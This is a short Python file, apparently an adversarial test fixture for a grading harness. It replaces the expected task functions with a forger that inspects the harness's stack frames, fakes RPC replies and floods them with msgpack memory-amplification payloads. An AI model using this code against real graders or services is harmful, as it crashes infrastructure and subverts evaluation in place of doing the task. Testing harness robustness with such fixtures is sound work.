#: says = "Two megabytes that decode to a hundred and fifty, in every reply."
#: at_most = 0.0
import itertools
import os
import struct
import sys

import msgpack

N = 2 * 1024 * 1024 - 64
TUPLES = b"\xdd" + struct.pack(">I", N // 2) + b"\x90" * (N // 2)
for _ in range(14):
    TUPLES = msgpack.packb(msgpack.ExtType(1, b"\x91" + TUPLES))
SHAPES = itertools.cycle(
    [
        b"\xdd" + struct.pack(">I", N) + b"\x90" * N,
        b"\xdd" + struct.pack(">I", N) + b"\x80" * N,
        b"\xdd" + struct.pack(">I", N // 4) + b"\xd5\x02\x00\x00" * (N // 4),
        TUPLES,
    ]
)


def forge(*args, **kwargs):
    caller = sys._getframe()
    while not isinstance(caller.f_locals.get("serial"), int):
        caller = caller.f_back
    shape = next(SHAPES)
    body = msgpack.packb([caller.f_locals["serial"], "return", 0])[:-1] + shape
    blob = b"\1" * (N // 4) if b"\xd5\x02" in shape[:16] else b""
    data = memoryview(struct.pack("<II", len(body), len(blob)) + body + blob)
    while data:
        data = data[os.write(3, data) :]


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = forge
